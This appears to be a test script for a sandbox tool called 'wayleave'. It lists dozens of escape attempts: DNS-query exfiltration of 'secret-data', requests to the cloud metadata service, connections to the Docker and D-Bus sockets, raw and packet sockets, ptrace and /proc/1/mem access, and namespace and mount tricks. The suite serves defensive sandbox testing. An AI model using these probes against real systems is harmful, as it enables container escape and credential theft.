"""Tries to get out of `wayleave run`. The argument has what there is outside."""

import ctypes
import json
import os
import signal
import socket
import struct
import subprocess
import sys

from attempt_runner import ATTEMPTS, LIBC, LIMIT, attempt, checked, run_all

OUTSIDE = json.loads(sys.argv[1])


def tcp(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(LIMIT)
        connection.connect((address, port))
        connection.sendall(b"out\n")
        return f"connected, {connection.recv(100)!r}"


def udp(address, port, message=b"out"):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(LIMIT)
        datagrams.connect((address, port))
        datagrams.send(message)
        return f"received, {datagrams.recv(4096)!r}"


def quic(address):
    # A long header, version 1, with a connection ID: what a server must answer (RFC 9000 section 17.2).
    return udp(address, 443, b"\xc3\0\0\0\x01\x08" + b"\1" * 1194)


for place in ("loopback4", "loopback6", "machine"):
    if OUTSIDE[place]:
        ATTEMPTS.append((f"tcp to a service of the machine at {place}", tcp, OUTSIDE[place]))
        ATTEMPTS.append((f"udp to a service of the machine at {place}", udp, OUTSIDE[place]))
for address in ("192.0.2.1", "10.0.0.1", "169.254.169.254", "203.0.113.9", "2001:db8::1", "fe80::1%lo"):
    for port in (22, 25, 8080, 8443):
        ATTEMPTS.append((f"tcp to {address} port {port}", tcp, (address, port)))
for address in ("192.0.2.1", "169.254.169.254", "2001:db8::1"):
    ATTEMPTS.append((f"udp to {address}", udp, (address, 4000)))
    ATTEMPTS.append((f"quic to {address}", quic, (address,)))
    ATTEMPTS.append((f"dns over tls to {address}", tcp, (address, 853)))
    ATTEMPTS.append((f"ntp to {address}", udp, (address, 123)))
for address in ("224.0.0.251", "255.255.255.255", "239.1.2.3"):
    ATTEMPTS.append((f"multicast or broadcast to {address}", udp, (address, 5353)))


@attempt("a query carries data out", "192.0.2.53")
@attempt("a query by tcp carries data out", "192.0.2.53", True)
def dns(server, by_tcp=False):
    name = b"".join(bytes([len(label)]) + label for label in (b"secret-data", b"exfiltration", b"example"))
    query = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">2H", 1, 1)
    if by_tcp:
        with socket.create_connection((server, 53), LIMIT) as connection:
            connection.sendall(struct.pack(">H", len(query)) + query)
            answer = connection.recv(4096)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.settimeout(LIMIT)
            datagrams.connect((server, 53))
            datagrams.send(query)
            answer = datagrams.recv(4096)
    return ".".join(map(str, answer[-4:-2]))


@attempt("dns over https", "https://192.0.2.53/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB")
@attempt("a page at a bare address", "http://192.0.2.80/")
@attempt("a page of the machine", "http://127.0.0.2/")
@attempt("a page of the metadata service", "http://169.254.169.254/latest/meta-data/")
@attempt("a disallowed page under another name", "http://192.0.2.80/private", "shop.test")
def page(url, host=None):
    command = ["curl", "-q", "-s", "-k", "-o", "/dev/null", "-w", "%{http_code}", url]
    return subprocess.run(command + (["-H", f"Host: {host}"] if host else []), stdout=subprocess.PIPE, text=True).stdout


@attempt("something other than http on port 80")
def not_http():
    return tcp("192.0.2.1", 80)[:30]


@attempt("something other than tls on port 443")
def not_tls():
    return tcp("192.0.2.1", 443)[:30]


@attempt("a raw icmp socket", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
@attempt("a raw icmpv6 socket", socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
@attempt("a raw ip socket", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
@attempt("a ping socket", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
@attempt("a packet socket", socket.AF_PACKET, socket.SOCK_RAW, 0x300)
@attempt("a packet socket without a link header", socket.AF_PACKET, socket.SOCK_DGRAM, 0x300)
@attempt("a vsock to the hypervisor", socket.AF_VSOCK, socket.SOCK_STREAM, 0)
@attempt("a bluetooth socket", 31, socket.SOCK_RAW, 1)
@attempt("a socket of the crypto api", socket.AF_ALG, socket.SOCK_SEQPACKET, 0)
@attempt("a tipc socket", 30, socket.SOCK_STREAM, 0)
@attempt("an xdp socket", 44, socket.SOCK_RAW, 0)
def open_socket(family, kind, protocol):
    socket.socket(family, kind, protocol)
    return "opened"


@attempt("an io_uring, whose requests open sockets")
def io_uring():
    setup = {"x86_64": 425, "aarch64": 425}[os.uname().machine]
    checked(LIBC.syscall(setup, 1, (ctypes.c_char * 120)()))
    return "opened"


@attempt("sctp", 132, socket.SOCK_STREAM)
@attempt("dccp", 33, 6)
@attempt("mptcp", 262, socket.SOCK_STREAM)
@attempt("udp-lite", 136, socket.SOCK_DGRAM)
def protocol(number, kind):
    with socket.socket(socket.AF_INET, kind, number) as connection:
        connection.settimeout(LIMIT)
        connection.connect(("192.0.2.1", 4000))
        connection.send(b"out")
        return f"received, {connection.recv(10)!r}"


@attempt("an abstract unix socket outside", "\0" + OUTSIDE["abstract"])
@attempt("a unix socket outside", OUTSIDE["unix"])
@attempt("the socket of docker", "/run/docker.sock")
@attempt("the bus of the system", "/run/dbus/system_bus_socket")
@attempt("the manager of the user's services", f"/run/user/{os.getuid()}/systemd/private")
def unix(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.connect(path)
        connection.sendall(b"out")
        return "connected"


@attempt("processes outside are seen")
def processes():
    # Ourselves, our parent, the command, process 1.
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    foreign = []
    for pid in seen:
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            words = file.read().split(b"\0")
        if not (b"attempts" in b" ".join(words) or words[:2] == [b"wayleave", b"run-init"]):
            foreign.append(words)
    return f"{foreign}" if foreign else "none"


@attempt("files of the test's process", "fd")
@attempt("memory of the test's process", "mem")
@attempt("root of the test's process", "root")
@attempt("network of the test's process", "ns/net")
def process_file(name):
    return str(os.stat(f"/proc/{OUTSIDE['pid']}/{name}"))


@attempt("a signal to the test's process")
def kill():
    os.kill(OUTSIDE["pid"], signal.SIGCONT)
    return "sent"


@attempt("ptrace of process 1")
def ptrace():
    return f"attached, {checked(LIBC.ptrace(16, 1, None, None))}"


@attempt("memory of process 1", "/proc/1/mem")
@attempt("memory of the kernel", "/dev/kmem")
def read_file(path):
    with open(path, "rb") as file:
        return f"read {file.read(1)!r}"


@attempt("the network of process 1")
def network_of_init():
    own, init = (os.readlink(f"/proc/{pid}/ns/net") for pid in ("self", "1"))
    return "another one" if own != init else "the same"


@attempt("descriptors that lead out")
def descriptors():
    links = []
    for name in os.listdir("/proc/self/fd"):
        try:
            links.append(os.readlink(f"/proc/self/fd/{name}"))
        except FileNotFoundError:
            pass  # That of the listing.
    return ",".join(link for link in links if link.startswith("socket:")) or "none"


@attempt("a network namespace of its own", 0x40000000)
@attempt("a mount namespace of its own", 0x20000)
@attempt("a process namespace of its own", 0x20000000)
def unshare(flags):
    checked(LIBC.unshare(flags))
    return "made"


def in_user_namespace(script):
    found = subprocess.run(
        ["unshare", "-Urm", "sh", "-c", script], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
    )
    return f"{found.returncode}: {found.stdout.strip()}"


@attempt("a namespace inside: its network", "unshare -n sh -c 'ip link set lo up; curl -q -sS http://192.0.2.1/' 2>&1 | cut -c1-9")
@attempt("a namespace inside: our routes", "ip route flush table local 2>&1; ip link set lo down")
@attempt("a namespace inside: a device", "ip tuntap add dev tun0 mode tun")
@attempt("a namespace inside: what is over /run", "umount /run")
@attempt("a namespace inside: what is over resolv.conf", "umount /etc/resolv.conf")
@attempt("a namespace inside: what is over a socket", f"umount {OUTSIDE['unix']}")
@attempt("a namespace inside: the whole machine's mounts", "umount -R /")
@attempt("a namespace inside: the network of process 1", "nsenter --net=/proc/1/ns/net true")
def nested(script):
    return in_user_namespace(script)


@attempt("su", "su -s /bin/sh -c id nobody")
@attempt("mount", "mount -t tmpfs none /mnt")
@attempt("chroot", "chroot / true")
@attempt("umount of /run", "umount /run")
@attempt("nsenter of process 1", "nsenter -t 1 -n true")
@attempt("a new address", "ip address add 192.0.2.7/24 dev lo")
@attempt("a new route", "ip route add 192.0.2.0/24 via 127.0.0.1")
@attempt("a packet filter", "nft add table inet out")
@attempt("a name of the machine", "hostname other")
@attempt("a service of systemd", "systemd-run --wait true")
@attempt("a service of the user's systemd", "systemd-run --user --wait true")
def command(line):
    found = subprocess.run(["sh", "-c", line], stdin=subprocess.DEVNULL, capture_output=True)
    return "done" if found.returncode == 0 else "failed"


@attempt("interfaces")
def interfaces():
    return ",".join(name for _, name in socket.if_nameindex())


@attempt("an internal name")
def internal_name():
    return socket.getaddrinfo("printer.corp", 80, socket.AF_INET)[0][4][0].rsplit(".", 2)[0]


run_all()
